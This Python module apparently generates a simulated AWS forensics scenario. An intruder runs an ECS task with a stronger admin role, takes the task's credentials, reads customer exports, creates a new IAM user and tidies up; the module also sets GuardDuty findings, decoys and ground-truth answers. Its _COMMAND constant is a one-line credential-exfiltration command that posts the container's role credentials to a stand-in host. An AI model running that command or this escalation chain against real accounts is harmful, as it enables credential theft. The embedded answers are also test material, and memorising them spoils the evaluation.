"""Scenario: who may pass a role runs a task with a role that is stronger than its own, and takes the task's key along."""

from dataclasses import dataclass, replace
from random import Random

from forensics.simulate import ecs_shapes as shapes
from forensics.simulate import guardduty
from forensics.simulate.cloudtrail import access_denied
from forensics.simulate.config_item import ConfigItems
from forensics.simulate.containers import Container, Definition, Task, make_task
from forensics.simulate.ecs import Ecs
from forensics.simulate.guardduty import Finding
from forensics.simulate.intruder import AGENT, Intruder, conclude, found, stolen_key
from forensics.simulate.intruder_iam import ADMINISTRATOR, new_user
from forensics.simulate.network import Subnet
from forensics.simulate.shop import CI_AGENT, PUBLIC_SUBNET, VPC, Shop
from forensics.simulate.shop_morning import CI_ADDRESSES, ordinary_morning
from forensics.simulate.shop_noise import Noise
from forensics.simulate.stage import Scenario, Stage
from forensics.simulate.vpc_flow import Talk
from forensics.simulate.world import ACCOUNT, Caller, Credential, Ids, Json, Role, at, caller

FIRST_HOST = "203.0.113.77"
SECOND_HOST = "203.0.113.80"
TASK_ADDRESS = "198.51.100.88"
CLUSTER = "batch"

_STARTS, _ENDS = at("09:20:30"), at("09:58:20")
_COMMAND = [
    "sh",
    "-c",
    "curl -s 169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI | curl -d @- https://203.0.113.77",
]


@dataclass(frozen=True)
class Batch:
    """The cluster: its ECS, the subnet of its tasks, the roles that may be passed to them."""

    ecs: Ecs
    ids: Ids
    subnet: Subnet
    report: Definition
    strong: Role
    execution: Role


def play(stage: Stage) -> None:
    """The ordinary morning with a nightly report as a task, the abuse within it, then the day's noise."""
    shop, invoker, runners = ordinary_morning(stage)
    batch = _open_batch(stage)
    intruder = Intruder(stage, Random(stage.ids.hex(16)))
    reports = _reports(stage, batch, caller(runners[2], CI_ADDRESSES[9], CI_AGENT))
    first = caller(_key(shop), FIRST_HOST, AGENT)
    task = _escalate(intruder, batch, first)
    _act_within(intruder, batch, task)
    user = _act_outside(intruder, batch, task)
    _clean_up(intruder, batch, first, task)
    _imitate(intruder, batch, first, reports[-1])
    _detect(stage, task, user)
    _decoys(stage, task, reports)
    if task.key is None:
        raise ValueError("the task has a role")
    stolen = stolen_key(stage, task.key, first_foreign_use=at("09:31:02"), addresses=[SECOND_HOST])
    conclude(stage, playbook="ecs-task-compromise", parameters={"workload": task.arn}, stolen=stolen)
    noise = Noise(stage, shop, invoker, runners)
    for window in stage.windows():
        noise.add(window)
    stage.truth.attack_flows = sorted(stage.flows.facts, key=lambda fact: str(fact["event_id"]))


def _key(shop: Shop) -> Credential:
    if shop.dev.credential is None:
        raise ValueError("dev has a key")
    return shop.dev.credential


def _open_batch(stage: Stage) -> Batch:
    ids = stage.own_ids("batch")
    config = ConfigItems(stage.storage, stage.own_ids("config"), stage.ledger)
    stage.more.append(config)
    roles = {name: Role(name, ids.unique("AROA", 10)) for name in ("report-task", "admin-task", "ecs-execution")}
    report = Definition("report", 14, (Container.make(ids, "report"),), roles["report-task"], roles["ecs-execution"])
    subnet = Subnet(PUBLIC_SUBNET, VPC, "10.0.1", given=140)
    ecs = Ecs.open(stage, stage.flows, config)
    return Batch(ecs, ids, subnet, report, roles["admin-task"], roles["ecs-execution"])


def _reports(stage: Stage, batch: Batch, runner: Caller) -> list[Task]:
    """The build registers the report's next revision and runs it, as it does every hour."""
    ask, answer = shapes.register(batch.report)
    stage.trail.call(runner, "ecs:RegisterTaskDefinition", at("08:46:10"), ask=ask, answer=answer)
    made = []
    for clock, until in (("08:47:00", "08:58:40"), ("09:05:00", "09:17:30")):
        card = batch.subnet.interface(batch.ids)
        task = make_task(
            batch.ids, batch.report, CLUSTER, at(clock), stopped=at(until), interface=card, started_by="build"
        )
        batch.ecs.run(runner, [task])
        batch.ecs.say(task, at(clock) + 40, "report written")
        made.append(task)
    return made


def _escalate(intruder: Intruder, batch: Batch, who: Caller) -> Task:
    act = intruder.act
    act(who, "sts:GetCallerIdentity", at("09:14:02"), "discovery")
    act(who, "ecs:ListClusters", at("09:14:20"), "discovery", ask={})
    known = {"taskDefinition": "report", "include": ["TAGS"]}
    act(who, "ecs:DescribeTaskDefinition", at("09:14:41"), "discovery", ask=known)
    act(who, "iam:ListRoles", at("09:15:05"), "discovery", ask={"maxItems": 1000})
    policy: Json = {"userName": "dev", "policyArn": ADMINISTRATOR}
    denied = access_denied(who, "iam:AttachUserPolicy", f"arn:aws:iam::{ACCOUNT}:user/dev")
    act(who, "iam:AttachUserPolicy", at("09:15:50"), "privilege-escalation", ask=policy, failed=denied)
    image = Container.make(batch.ids, "maintenance", "public.ecr.example/library/curl:8.9")
    definition = Definition("maintenance", 1, (image,), batch.strong, batch.execution)
    ask, answer = shapes.register(definition)
    ask["containerDefinitions"][0]["command"] = _COMMAND
    act(who, "ecs:RegisterTaskDefinition", at("09:18:12"), "privilege-escalation", ask=ask, answer=answer)
    card = batch.subnet.interface(batch.ids, public=TASK_ADDRESS)
    task = make_task(batch.ids, definition, CLUSTER, _STARTS, stopped=_ENDS, interface=card)
    inside = {"name": "maintenance", "environment": [{"name": "T", "value": FIRST_HOST}], "command": _COMMAND}
    event = batch.ecs.run(who, [task], public=True, overrides={"containerOverrides": [inside]})
    intruder.state(who, "ecs:RunTask", _STARTS, "privilege-escalation", event=event)
    _state_task_key(intruder, task)
    return task


def _state_task_key(intruder: Intruder, task: Task) -> None:
    if task.key:
        intruder.stage.truth.credentials[task.key.access_key_id]["malicious"] = True


def _act_within(intruder: Intruder, batch: Batch, task: Task) -> None:
    inside, stage = batch.ecs.code(task, TASK_ADDRESS), intruder.stage
    intruder.act(inside, "sts:GetCallerIdentity", at("09:22:10"), "discovery")
    policy: Json = {"userName": "dev", "policyArn": ADMINISTRATOR}
    intruder.act(inside, "iam:AttachUserPolicy", at("09:22:41"), "privilege-escalation", ask=policy)
    if task.interface is None:
        raise ValueError("the task has an interface")
    fact: Json = {"workloads": [task.arn], "certainty": "matched"}
    for minute in range(at("09:23"), at("09:41"), 60):
        sent = intruder.rng.randrange(40_000, 900_000)
        start = minute + intruder.rng.randrange(6)
        stage.flows.connect(task.interface, Talk(FIRST_HOST, 49_152, 443, sent, sent // 50, start, minute + 55, fact))
        stage.truth.bytes_out["flow"] += sent


def _act_outside(intruder: Intruder, batch: Batch, task: Task) -> Credential:
    if task.key is None:
        raise ValueError("the task has a role")
    outside = caller(task.key, SECOND_HOST, AGENT)
    intruder.act(outside, "sts:GetCallerIdentity", at("09:31:02"), "discovery")
    intruder.act(outside, "s3:ListBuckets", at("09:31:30"), "discovery", ask={"Host": "s3.amazonaws.com"})
    for place in range(12):
        intruder.read(outside, "customer-exports", f"2026/10/customers-{place}.csv.gz", at("09:32:04") + 17 * place)
    _, key = new_user(intruder, outside, "support2", at("09:36:10"), ids=batch.ids)
    who = caller(key, SECOND_HOST, AGENT)
    intruder.act(who, "s3:ListBuckets", at("09:42:08"), "discovery", ask={"Host": "s3.amazonaws.com"})
    return key


def _clean_up(intruder: Intruder, batch: Batch, who: Caller, task: Task) -> None:
    batch_task: Json = {"cluster": CLUSTER, "task": task.arn, "container": "maintenance", "interactive": True}
    session = {"session": {"sessionId": f"ecs-execute-command-{batch.ids.text(17).lower()}"}}
    ask = batch_task | {"command": "/bin/sh"}
    intruder.act(who, "ecs:ExecuteCommand", at("09:25:33"), "execution", ask=ask, answer=batch_task | session)
    event = batch.ecs.stop(who, task, "done")
    intruder.state(who, "ecs:StopTask", _ENDS - 31, "defense-evasion", event=event)
    gone = {"taskDefinition": "maintenance:1"}
    intruder.act(who, "ecs:DeregisterTaskDefinition", at("09:59:02"), "defense-evasion", ask=gone)


def _imitate(intruder: Intruder, batch: Batch, who: Caller, report: Task) -> None:
    """The intruder assumes the report's role under the id of a report's task: its session looks like the task's."""
    role, stage = batch.report.task_role, intruder.stage
    if role is None:
        raise ValueError("the report has a role")
    made, event = stage.assume(who, role, report.task_id, at("09:08:15"), malicious=True)
    intruder.state(who, "sts:AssumeRole", at("09:08:15"), "defense-evasion", event=event)
    calls = [event]
    spoofed = caller(made, FIRST_HOST, AGENT)
    for place, action in enumerate(("s3:ListBuckets", "sts:GetCallerIdentity")):
        calls.append(intruder.act(spoofed, action, at("09:08:40") + 19 * place, "discovery"))
    must_not = [
        {"event_id": event, "question": "issued_to", "workload": report.arn, "certainty": None} for event in calls
    ]
    text = "a session named like a task, which the developer's key assumed: ECS did not mint it."
    stage.truth.decoy("spoofed-session", text, calls, must_not)


def _detect(stage: Stage, task: Task, user: Credential) -> None:
    if task.key is None:
        raise ValueError("the task has a role")
    theft = Finding(
        "UnauthorizedAccess:IAMUser/InstanceCredentialExfiltration.OutsideAWS",
        8.0,
        "Credentials for an ECS task role were used from an external IP address.",
        f"Credentials of a task's role were used from {SECOND_HOST}.",
        guardduty.access_key_resource(task.key, "admin-task"),
        guardduty.api_call("s3", "ListBuckets", SECOND_HOST, AGENT),
    )
    staying = Finding(
        "Persistence:IAMUser/AnomalousBehavior",
        5.0,
        "An IAM entity invoked CreateAccessKey in an unusual way.",
        "APIs commonly used in Persistence tactics were invoked under unusual circumstances.",
        guardduty.access_key_resource(task.key, "admin-task"),
        guardduty.api_call("iam", "CreateAccessKey", SECOND_HOST, AGENT),
    )
    probe = Finding(
        "Recon:IAMUser/UserPermissions",
        2.0,
        "An IAM entity invoked an API commonly used to discover permissions.",
        "The role of the build listed roles.",
        guardduty.access_key_resource(
            replace(user, access_key_id="GeneratedFindingAccessKeyId"), "GeneratedFindingUserName"
        ),
        guardduty.api_call("iam", "ListRoles", "198.51.100.0", "GeneratedFindingUserAgent"),
        info={"sample": True},
    )
    found(stage, theft, at("09:31:30"), [(at("09:38:10"), 6), (at("09:52:40"), 15)], key=task.key)
    found(stage, staying, at("09:36:37"), [(at("09:44:05"), 2)], key=task.key)
    found(stage, probe, at("08:30:00"), [(at("08:32:00"), 1)], malicious=False)


def _decoys(stage: Stage, task: Task, reports: list[Task]) -> None:
    """The build's own tasks, and the calls that are about a task without being its own."""
    about = [
        fact["event_id"]
        for fact in stage.truth.attack_events
        if fact["action"] in ("ecs:RunTask", "ecs:StopTask", "ecs:ExecuteCommand")
    ]
    must_not = [
        {"event_id": event, "question": "issued_to", "workload": task.arn, "certainty": None} for event in about
    ]
    stage.truth.decoy(
        "about-not-by", "calls that run, enter and stop the task are not the task's calls.", about, must_not
    )
    stage.truth.decoy(
        "ordinary-run-task", f"the build runs {len(reports)} tasks of its own, with a role of their own.", [], []
    )


SCENARIO = Scenario(
    name="ecs-run-task-escalation",
    title="A task run with a stronger role",
    question="Who ran the task that acted with admin-task, what did it do, and where did its key go?",
    run=play,
)
